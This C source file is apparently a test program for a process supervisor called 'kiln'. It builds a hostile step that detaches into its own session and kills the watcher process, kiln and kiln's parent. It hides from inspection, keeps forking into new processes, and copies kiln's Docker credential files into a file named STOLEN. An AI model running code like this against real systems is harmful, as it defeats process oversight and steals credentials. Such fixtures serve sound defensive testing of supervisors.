/* What a hostile step starts to outlive it: survivor ORDER MARK STOLEN
 *
 * Gives up a capability so that nobody knows it by those it has, takes a session of its own and two new parents, and
 * kills in the order given: `w` the process that watches over the step, `k` kiln, `p` kiln's parent. Then, for as long
 * as a minute, looks into kiln's credentials, and writes to the file STOLEN what it finds there. With an `h` at the end
 * nobody sees its root; with an `f` it is always another process, as fast as can be; with an `e` the step ends well.
 */
#include <signal.h>
#include <sys/prctl.h>
#include <time.h>

#include "hostile.h"

int main(int count, char **words)
{
	int whose[256], try, is_fast;
	time_t end = time(NULL) + 60;

	if (count != 4)
		return 2;
	find_processes(whose);
	is_fast = strchr(words[1], 'f') != NULL;
	prctl(PR_CAPBSET_DROP, 0, 0, 0, 0);
	if (fork() > 0) {
		if (strchr(words[1], 'e'))
			usleep(200000);
		else
			pause();
		return 0;
	}
	setsid();
	if (fork() > 0)
		_exit(0);
	usleep(100000);
	for (const char *whom = words[1]; *whom && strchr("wkp", *whom); whom++)
		kill(whose[(int)*whom], SIGKILL);
	if (strchr(words[1], 'h'))
		prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
	for (try = 0; try < (is_fast ? 6000000 : 60000) && time(NULL) < end; try++) {
		steal("/kiln/.docker/config.json", words[2], words[3]);
		steal("/kiln/.d2/config.json", words[2], words[3]);
		if (fork() > 0)
			_exit(0); /* always another process */
		setsid();
		if (!is_fast)
			usleep(1000);
	}
	return 0;
}
